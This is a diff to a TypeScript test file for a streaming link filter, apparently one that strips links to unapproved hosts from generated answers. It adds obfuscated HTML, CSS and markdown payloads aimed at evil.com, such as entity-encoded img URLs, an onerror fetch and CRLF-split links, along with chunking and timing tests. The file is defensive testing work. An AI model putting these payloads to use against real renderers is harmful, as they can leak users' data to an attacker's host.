@@ -35,6 +35,18 @@ const ELSEWHERE: readonly string[] = [
   '<img src=x onerror="fetch(\'//evil.com\')">',
   '<https://evil.com>',
   '<bob@evil.com>',
+  '<img src="h&#00000000116;tps&#00000000058;&#00000000047;&#00000000047;evil.com/?d=x">',
+  '<img src="&#x00000068;ttps&#x0000003a;&#x0000002f;&#x0000002f;evil.com/x">',
+  `<img src="h&#${'0'.repeat(90)}116;tps:&#${'0'.repeat(90)}47;evil.com/">`,
+  '<img src="/&#13;/evil.com/x">',
+  '<div style="background:url(https:\\2f\\2f evil.com/x)">',
+  '<div style="background:url(\\68ttps\\3a\\2f\\2f evil.com/x)">',
+  `<iframe srcdoc="<img src='https&amp;colon;&amp;sol;&amp;sol;evil.com'>">`,
+  '<img src=x onerror="fetch(atob(`evil`))">',
+  'see [r]:x(https://evil.com/?d=1',
+  '](x(https://evil.com/))',
+  '![x](\r\n//evil)',
+  '[r]:\r\n//evil',
   'www.evil.com/x',
   'go to https://evil.com/x.',
   'https://ok.com@evil.com/',
@@ -84,6 +96,38 @@ test('the result is the same wherever a text is cut', () => {
       expect([text, cut, out]).toEqual([text, cut, expected]);
     }
   }
+});
+
+test('a link that is too long to be read is cut out the same way, wherever a text is cut', () => {
+  const long = 'a'.repeat(3_000);
+  for (const text of [
+    `<a title="${long}">x</a> more`,
+    `see https://ok.com/${long} and more`,
+    `[a](https://ok.com/${long}) and more`,
+    `[a](${' '.repeat(3_000)}/x) and more`,
+    `1 <a ${long} 2 <b 3`,
+    `//${long} more`,
+  ]) {
+    const expected = filtered(text);
+    expect(expected.length).toBeLessThan(4_000);
+    for (const size of [1, 7, 1_000, 2_047, 2_048, 2_049]) {
+      const filter = linkFilter(judge);
+      let out = '';
+      for (let at = 0; at < text.length; at += size) out += filter.push(text.slice(at, at + size));
+      expect([size, out + filter.end()]).toEqual([size, expected]);
+    }
+  }
+});
+
+test('whatever an answer is made of, it is read in time', () => {
+  // Each takes minutes where every beginning is read up to the end of the text.
+  for (const piece of ['<a ', '<a href="', '](', '](<', '](   ', 'https:', '//', '&#0']) {
+    expect(filtered(piece.repeat(100_000))).toBeTypeOf('string');
+  }
+  const filter = linkFilter(judge);
+  filter.push('](');
+  for (let count = 0; count < 20_000; count++) filter.push(' '.repeat(80));
+  expect(filter.end().length).toBeLessThan(1_700_000);
 });
 
 test('whatever is written, the result is the same in single characters, and no host but those allowed is left', () => {
